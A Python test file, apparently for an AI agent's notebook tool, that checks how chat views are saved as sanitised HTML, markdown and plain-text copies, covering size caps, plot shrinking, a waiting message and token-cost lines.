    for _ in range(300):
        view, options = _hostile_view(rnd)
        copy = render_static_copy(view, save_photos=True, **options)
        assert_inert(copy["text/html"])  # the HTML form held already: it stays so
        texts.append(copy["text/markdown"])
    breaches = markdown_breaches(texts)
    assert not breaches, f"{len(breaches)} of {len(texts)} copies:\n" + "\n".join(breaches[:8])


NORMAL_ANSWER = """# Sales report

Revenue **grew** by *12%* in Q1 (R&D < 5%): see [the docs](https://example.com/docs?a=1&b=2),
https://example.com/raw, www.example.org or ada@example.com. A `list[int]` holds the ids;
`x < y && z` is ~~false~~ true.

- `sales.groupby("month")` sums it
- a [reference][ref] and an image ![plot](data:image/png;base64,iVBORw0KGgo=)
  1. nested, with `a|b`

| month | revenue |
|---|---:|
| 2024-01 | 1.5 |
| 2024-02 | 2.5 |

```python
print("<b>", sales["revenue"].sum())
```

> a quote with snake_case and 2 * 3

---

[ref]: https://example.com/ref
"""


def test_a_normal_answers_markdown_renders_as_the_model_wrote_it() -> None:
    """Made safe, an answer with no markup to refuse still reads the same in every renderer:
    headings, emphasis, links (bare ones too), code, lists, a table, a quote."""
    copy = render_static_copy({"messages": [{"role": "assistant", "content": NORMAL_ANSWER}]})
    written, saved = rendered_everywhere([NORMAL_ANSWER, copy["text/markdown"]])
    for renderer, markup in written.items():
        assert _Page(saved[renderer]).shape == _Page(markup).shape, renderer
    assert "<table>" in saved["marked"] and '<a href="mailto:ada@example.com">' in saved["marked"]
    assert not markdown_breaches([copy["text/markdown"]])


# -- the size cap ----------------------------------------------------------------------------------


def test_a_huge_output_is_cut_head_and_tail_and_the_cap_holds(views: dict[str, Any]) -> None:
    view = json.loads(json.dumps(views["plot"]))
    tool = next(m for m in view["messages"] if m["role"] == "tool")
    result = json.loads(tool["content"])
    result["stdout"] = "FIRST LINE\n" + "x" * 5_000_000 + "\nLAST LINE"
    tool["content"] = json.dumps(result)
    view["messages"][-1]["content"] = "start " + "word " * 400_000 + " end"
    copy = render_static_copy(view)
    assert size(copy) <= MAX_CELL_BYTES
    seen = _Page(copy["text/html"]).seen()
    assert "FIRST LINE" in seen and "LAST LINE" in seen and "characters not shown" in seen
    assert "start word" in copy["text/plain"] and copy["text/plain"].endswith("end")


def test_a_copy_whose_text_passes_the_cap_becomes_its_text_cut(views: dict[str, Any]) -> None:
    many = [
        {"id": f"m{i}", "role": "assistant", "content": f"answer {i} " + "y" * 50_000}
        for i in range(40)
    ]
    copy = render_static_copy({"messages": many})
    assert size(copy) <= MAX_CELL_BYTES
    assert "Too long to keep in full in the notebook (cap: 512 KiB)" in copy["text/html"]
    assert "answer 0 yyy" in copy["text/plain"] and "characters not shown" in copy["text/plain"]
    both(copy)


def test_a_plot_past_the_cap_is_made_smaller_or_left_out(
    views: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    view = views["plot"]
    whole = render_static_copy(view)
    cap = size(whole) - 12_000  # the plot no longer fits as it is
    smaller = render_static_copy(view, max_bytes=cap)
    assert size(smaller) <= cap
    (src,) = [a["src"] for t, a in assert_inert(smaller["text/html"]).tags if t == "img"]
    assert src.startswith("data:image/png;base64,") and len(src) < len(whole["text/html"]) // 2

    monkeypatch.setitem(sys.modules, "PIL", None)  # without Pillow: left out, with a note
    dropped = render_static_copy(view, max_bytes=cap)
    assert size(dropped) <= cap
    for page in both(dropped):
        assert not [t for t, _ in page.tags if t == "img"]
        assert "Plot from run_python: left out, the copy would pass its" in page.seen()


# -- before the turn ends, and what the cell adds --------------------------------------------------


def test_before_the_turn_ends_the_copy_says_it_waits() -> None:
    copy = waiting_copy("plot <b>this</b>")
    assert copy["text/plain"] == "waiting for the agent…"
    for page in both(copy):
        assert "You: plot <b>this</b>" in page.seen() and "waiting for the agent…" in page.seen()
    assert waiting_copy(None)["text/html"].startswith('<div class="gth-static-copy">')


def test_the_prompt_shows_until_the_view_has_it_and_notes_come_last() -> None:
    note = "run_python was refused: add an allow entry for it <here>."
    copy = render_static_copy({"messages": []}, prompt="why?", notes=[note])
    for page in both(copy):
        assert page.seen() == f"You: why? {note}"
    assert copy["text/plain"] == f"The agent gave no answer.\n\n{note}"


def test_the_copy_ends_with_what_its_turn_cost() -> None:
    """Issue 19: the saved copy says what the answer cost; a headless one also the thread's
    total; text/plain stays the answer."""
    usage = [
        {
            "provider": "anthropic",
            "model": "claude-x",
            "inputTokens": 1204,
            "outputTokens": 356,
            "cachedInputTokens": 812,
        }
    ]
    view = {
        "messages": [
            {"id": "u1", "role": "user", "content": "What is it?"},
            {"id": "a1", "role": "assistant", "content": "It is **this**."},
        ],
        "interrupts": [],
        "turns": [
            {
                "turnId": "c1",
                "messageId": "u1",
                "usage": usage,
                "cost": {"usd": 0.0041, "source": "genai-prices"},
            },
            {
                "turnId": "c2",
                "messageId": "u2",
                "usage": usage,
                "cost": {"usd": None, "source": "unknown"},
            },
        ],
        "usage": usage * 2,
        "cost": {"usd": None, "source": "unknown"},
    }
    line = "1,204 in · 356 out · 812 cached · $0.0041"
    copy = render_static_copy(view)
    assert line in copy["text/html"] and "gth-copy-usage" in copy["text/html"]
    assert line in copy["text/markdown"]
    assert copy["text/plain"] == "It is **this**."
    assert "conversation so far" not in copy["text/html"]
    headless = render_static_copy(view, thread_total=True)
    total = "This conversation so far: 2,408 in · 712 out · 1,624 cached · cost unknown"
    assert total in headless["text/html"] and total in headless["text/markdown"]
